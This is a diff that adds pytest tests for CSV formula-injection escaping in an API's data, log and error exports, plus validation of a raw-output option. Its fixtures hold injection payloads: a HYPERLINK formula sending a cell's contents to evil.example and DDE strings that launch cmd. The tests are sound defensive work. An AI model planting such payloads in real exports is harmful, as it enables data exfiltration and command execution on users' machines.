@@ -3,6 +3,7 @@ column projection, CSV and Arrow pages, newest-first logs."""
 
 from __future__ import annotations
 
+import base64
 import csv
 import datetime as dt
 import io
@@ -206,6 +207,90 @@ def test_csv_of_an_attempt_without_rows_is_the_header_only(api):
     response = api.get(phase_path(run, suffix="/errors"), headers=CSV)
     assert response.status_code == 200
     assert response.text == "" and response.headers["X-Total-Rows"] == "0"
+
+
+# -- CSV formula injection -------------------------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&B3,"Open")',
+    "+1+cmd|' /C notepad'!A1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "-2+3",
+]
+HARMLESS = ["plain", "a=b", " =not first", "", "'quoted"]
+
+
+@pytest.fixture
+def formula_run(api) -> RunRef:
+    run = new_run()
+    put_metadata(run)
+    values = FORMULAS + HARMLESS
+    count = len(values)
+    data = pa.table(
+        {
+            "=cmd|' /C calc'!A0": values,  # a column name is a cell too
+            "n": pa.array([-1 - i for i in range(count)], pa.int64()),
+            "x": pa.array([-0.5] * count, pa.float64()),
+            "amount": pa.array([Decimal("-1.50")] * count, pa.decimal128(6, 2)),
+            "blob": pa.array([b"\xfb\xef" + bytes([i]) for i in range(count)], pa.binary()),
+        }
+    )
+    put_chunks(run, "data", [data])
+    put_chunks(run, "logs", [logs_table(values)])
+    return run
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200, response.text
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(api, formula_run):
+    url = phase_path(formula_run, suffix="/data")
+    rows = _csv_rows(api.get(url, headers=CSV))
+    assert rows[0] == ["'=cmd|' /C calc'!A0", "n", "x", "amount", "blob"]
+    assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS] + HARMLESS
+    # Numbers, decimals and binary: -1 stays a number; base64 "++8A" starting with + is text.
+    assert [row[1] for row in rows[1:3]] == ["-1", "-2"] and {row[2] for row in rows[1:]} == {"-0.5"}
+    assert {row[3] for row in rows[1:]} == {"-1.50"}
+    count = len(FORMULAS + HARMLESS)
+    blobs = [base64.b64encode(b"\xfb\xef" + bytes([i])).decode() for i in range(count)]
+    assert all(blob.startswith("+") for blob in blobs)
+    assert [row[4] for row in rows[1:]] == ["'" + blob for blob in blobs]
+
+
+def test_csv_formulas_raw_writes_the_cells_as_stored(api, formula_run):
+    url = phase_path(formula_run, suffix="/data")
+    rows = _csv_rows(api.get(url, params={"csv_formulas": "raw"}, headers=CSV))
+    assert rows[0][0] == "=cmd|' /C calc'!A0"
+    assert [row[0] for row in rows[1:]] == FORMULAS + HARMLESS
+    # The JSON page and the explicit default are unchanged by the parameter.
+    page = api.get(url, params={"csv_formulas": "raw"}).json()
+    assert [row["=cmd|' /C calc'!A0"] for row in page["rows"]] == FORMULAS + HARMLESS
+    escaped = _csv_rows(api.get(url, params={"csv_formulas": "escape"}, headers=CSV))
+    assert escaped == _csv_rows(api.get(url, headers=CSV))
+
+
+def test_logs_and_errors_csv_are_escaped_too(api, formula_run):
+    url = phase_path(formula_run, suffix="/logs")
+    rows = _csv_rows(api.get(url, params={"limit": 20}, headers=CSV))
+    message = rows[0].index("message")
+    assert [row[message] for row in rows[1:]] == ["'" + value for value in FORMULAS] + HARMLESS
+    raw = _csv_rows(api.get(url, params={"limit": 20, "csv_formulas": "raw"}, headers=CSV))
+    assert [row[message] for row in raw[1:]] == FORMULAS + HARMLESS
+    errors = api.get(phase_path(formula_run, suffix="/errors"), params={"csv_formulas": "raw"}, headers=CSV)
+    assert errors.status_code == 200
+
+
+@pytest.mark.parametrize("value", ["RAW", "raw ", "", "none", "escape,raw", "0"])
+def test_csv_formulas_takes_escape_or_raw_only(api, formula_run, value):
+    for suffix in ("/data", "/errors", "/logs"):
+        response = api.get(
+            phase_path(formula_run, suffix=suffix), params={"csv_formulas": value}, headers=CSV
+        )
+        assert response.status_code == 422, (suffix, value)
+        assert response.json()["detail"][0]["loc"] == ["query", "csv_formulas"]
 
 
 # -- Arrow -----------------------------------------------------------------------------------
